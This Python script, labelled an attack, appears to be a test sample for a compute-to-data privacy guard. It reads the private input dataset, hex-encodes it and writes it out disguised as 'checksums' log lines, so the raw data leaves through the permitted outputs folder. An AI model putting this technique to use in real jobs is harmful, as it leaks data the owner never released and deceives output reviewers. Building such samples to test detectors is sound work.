#!/usr/bin/env python3
"""Attack: the dataset hex-encoded (upper case, 64 digits a line) inside a log-like text output."""
import json
import os

DATA_ROOT = os.environ.get("DATA_ROOT", "/data")
OUTPUTS = os.path.join(DATA_ROOT, "outputs")


def dataset_path():
    """The first dataset of env DIDS (a JSON array), at <DATA_ROOT>/inputs/<did>/0."""
    did = json.loads(os.environ["DIDS"])[0]
    return os.path.join(DATA_ROOT, "inputs", did, "0")


def params():
    """The buyer's parameters (algoCustomData.json), or {}."""
    path = os.path.join(DATA_ROOT, "inputs", "algoCustomData.json")
    if not os.path.exists(path):
        return {}
    with open(path, encoding="utf-8") as file:
        return json.load(file)


with open(dataset_path(), "rb") as file:
    digits = file.read().hex().upper()
with open(os.path.join(OUTPUTS, "checksums.txt"), "w", encoding="ascii") as out:
    for i in range(0, len(digits), 64):
        out.write(f"block {i // 64}: {digits[i:i + 64]}\n")
